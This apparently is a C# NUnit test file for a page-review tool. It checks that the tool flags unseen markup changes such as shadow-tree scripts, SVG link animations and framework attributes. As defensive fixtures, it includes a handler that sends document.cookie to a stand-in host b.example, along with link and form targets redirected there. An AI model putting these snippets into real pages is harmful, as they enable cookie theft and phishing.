using Gate.Core.Run;
using Gate.Core.Semantics;
using NUnit.Framework;
using static Gate.Tests.Support.Semantics.OnePageReview;

namespace Gate.Tests.Unit.Semantics;

/// <summary>What no pixel shows and visitors' browsers act on: shadow trees, animations of links, areas, attributes of libraries.</summary>
internal sealed class UnseenMarkupTests
{
    [TestCase("open", "", "<script>a()</script>", "scripts")]
    [TestCase("open", "<script>a()</script>", "<script>b()</script>", "scripts")]
    [TestCase("open", "<a href=a.html>Pay</a>", "<a href=https://b.example/>Pay</a>", "link-target")]
    [TestCase("open", "<form action=/a><input name=p></form>", "<form action=https://b.example/a><input name=p></form>", "forms")]
    [TestCase("open", "<button onclick=a()>B</button>", "<button onclick=b()>B</button>", "handlers")]
    [TestCase("open", "<p aria-current=page>P", "<p>P", "aria")]
    [TestCase("open", "<p>One", "<p>Two", "visible-text")]
    [TestCase("CLOSED", "<p>One", "<p>Two", "visible-text")]
    [TestCase("open", "<img alt=a src=a.png>", "<img alt=a src=https://b.example/a.png>", "remote-origins")]
    public async Task A_declared_shadow_tree_is_read_like_the_page(string mode, string old, string now, string check)
    {
        var before = $"<!DOCTYPE html><title>T</title><div><template shadowrootmode={mode}>{old}</template></div>";
        var after = $"<!DOCTYPE html><title>T</title><div><template shadowrootmode={mode}>{now}</template></div>";

        var review = await ReviewAsync(before, after, SemanticsPolicy.Default);

        Assert.That(review.Findings(_ => false).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)));
        Assert.That(review.Markup[0].Substantive, Is.Positive);
    }

    [Test]
    public async Task A_whole_shadow_tree_that_is_new_is_read()
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><div></div>", "<!DOCTYPE html><title>T</title><div><template shadowrootmode=open><script>a()</script></template></div>");

        Assert.That(found.Select(finding => (finding.Check, finding.Severity)), Has.Member(("scripts", Severity.Fail)));
    }

    [TestCase("", " shadowrootmode=open", 1, TestName = "A_template_that_becomes_a_shadow_tree_fails")]
    [TestCase("", " shadowrootmode=maybe", 0, TestName = "A_template_of_a_mode_that_is_none_stays_a_template")]
    public async Task A_template_changes_its_mode(string old, string now, int count)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title><div><template{old}><script>a()</script></template></div>", $"<!DOCTYPE html><title>T</title><div><template{now}><script>a()</script></template></div>");

        Assert.That(found.Count(finding => finding is { Check: "scripts", Severity: Severity.Fail }), Is.EqualTo(count));
    }

    [TestCase("<set attributeName=href to=https://b.example/ />", "link-target")]
    [TestCase("<set attributeName=href to=https://b.example/ />", "remote-origins")]
    [TestCase("<animate attributeName=xlink:href values='a.html;https://b.example/' />", "link-target")]
    [TestCase("<animate attributeName=xlink:href values='a.html;https://b.example/' />", "remote-origins")]
    [TestCase("<animate attributeName=href from=https://b.example/ to=a.html />", "link-target")]
    [TestCase("<animate attributeName=href by=b.html />", "link-target")]
    public async Task An_animation_that_leads_a_link_elsewhere_fails(string animation, string check)
    {
        var (without, with) = ($"<!DOCTYPE html><title>T</title><svg><a href=a.html><text>Pay</text></a></svg>", $"<!DOCTYPE html><title>T</title><svg><a href=a.html>{animation}<text>Pay</text></a></svg>");

        Assert.That((await FindingsAsync(without, with)).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)), "new");
        Assert.That((await FindingsAsync(with, without)).Select(finding => finding.Check), Does.Not.Contain("remote-origins"), "gone");
        Assert.That((await FindingsAsync(with.Replace("b.", "c.", StringComparison.Ordinal), with)).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)), "another");
    }

    [Test]
    public async Task An_animation_of_a_colour_is_no_link()
    {
        const string link = "<!DOCTYPE html><title>T</title><svg><a href=a.html>{0}<text>Pay</text></a></svg>";
        var found = await FindingsAsync(link.Replace("{0}", "", StringComparison.Ordinal), link.Replace("{0}", "<set attributeName=fill to=red />", StringComparison.Ordinal));

        Assert.That(found.Select(finding => finding.Check), Does.Not.Contain("link-target"));
    }

    [TestCase("coords=0,0,50,100", "coords=50,0,100,100")]
    [TestCase("coords=0,0,50", "coords=0,0,50 shape=circle")]
    public async Task An_area_that_lies_elsewhere_leads_elsewhere(string old, string now)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title><map name=m><area {old} href=a.html alt=A></map>", $"<!DOCTYPE html><title>T</title><map name=m><area {now} href=a.html alt=A></map>");

        Assert.That(found.Select(finding => (finding.Check, finding.Severity)), Is.EqualTo(new[] { ("link-target", Severity.Fail) }));
    }

    [TestCase("x-on:click", TestName = "Alpine")]
    [TestCase("@click", TestName = "Alpine_and_Vue_in_short")]
    [TestCase(":title", TestName = "Vue_bound")]
    [TestCase("v-html", TestName = "Vue")]
    [TestCase("ng-click", TestName = "AngularJS")]
    [TestCase("(click)", TestName = "Angular")]
    [TestCase("wire:click", TestName = "Livewire")]
    [TestCase("hx-vals", TestName = "Htmx")]
    [TestCase("made-up", TestName = "Nobody_knows")]
    [TestCase("draggable", TestName = "Of_the_standard_and_read_by_no_other_check")]
    public async Task An_attribute_that_no_other_check_reads_warns(string name)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title><p {name}='a()'>T", $"<!DOCTYPE html><title>T</title><p {name}='b()'>T");
        var added = await FindingsAsync("<!DOCTYPE html><title>T</title><div></div>", $"<!DOCTYPE html><title>T</title><div><span {name}='b()'></span></div>");

        Assert.That(found.Select(finding => (finding.Check, finding.Severity, finding.Message)), Is.EqualTo(new[] { ("other-attributes", Severity.Warn, $"<p> \"T\": {name} was \"a()\", is \"b()\"") }));
        Assert.That(added.Select(finding => (finding.Check, finding.Message)), Has.Member(("other-attributes", $"<span>: {name}=\"b()\" is new")));
    }

    [TestCase("<p class=a style=color:red id=a align=left>T", "<p class=b style=color:blue id=b align=right>T", TestName = "Looks_are_for_the_pixels")]
    [TestCase("<svg><path d=M0,0 stroke-width=1 fill=red /></svg>", "<svg><path d=M1,0 stroke-width=2 fill=blue /></svg>", TestName = "Drawings_are_for_the_pixels")]
    [TestCase("<p data-a=1 lang=de>T", "<p data-a=2 lang=en>T", TestName = "What_others_read_is_told_by_them")]
    [TestCase("<p _ngcontent-abc-c1>T", "<p _ngcontent-abd-c2>T", TestName = "Marks_that_scope_styles_are_looks")]
    [TestCase("<img alt=x src=a.png decoding=async>", "<img alt=x src=a.png decoding=sync fetchpriority=high>", TestName = "How_soon_it_loads_is_not_seen")]
    [TestCase("<p x-a='a  b'>T", "<p x-a='a b'>T", TestName = "White_space_means_nothing")]
    public async Task Attributes_that_are_not_told_as_others(string old, string now) =>
        Assert.That((await FindingsAsync("<!DOCTYPE html><title>T</title>" + old, "<!DOCTYPE html><title>T</title>" + now)).Select(finding => finding.Check), Does.Not.Contain("other-attributes"));

    [TestCase("hx-post=https://b.example/buy", true)]
    [TestCase("data-endpoint=//b.example/buy", true)]
    [TestCase("x-on:click='fetch(`//b.example/`+document.cookie)'", true)]
    [TestCase("x-init='fetch(&quot;wss://b.example&quot;)'", true)]
    [TestCase("onclick='fetch(\"https://b.example/\")'", true)]
    [TestCase("data-code='a // b.example is ours'", false, TestName = "A_comment_is_no_address")]
    [TestCase("title='see https://b.example/'", false, TestName = "What_is_said_is_not_asked")]
    [TestCase("xmlns:x=http://b.example/ns", false, TestName = "A_namespace_is_no_address")]
    public async Task Another_host_in_an_attribute_counts(string attribute, bool counts)
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><p>T", $"<!DOCTYPE html><title>T</title><p {attribute}>T");

        Assert.That(found.Count(finding => finding is { Check: "remote-origins", Severity: Severity.Fail }), Is.EqualTo(counts ? 1 : 0));
    }
}
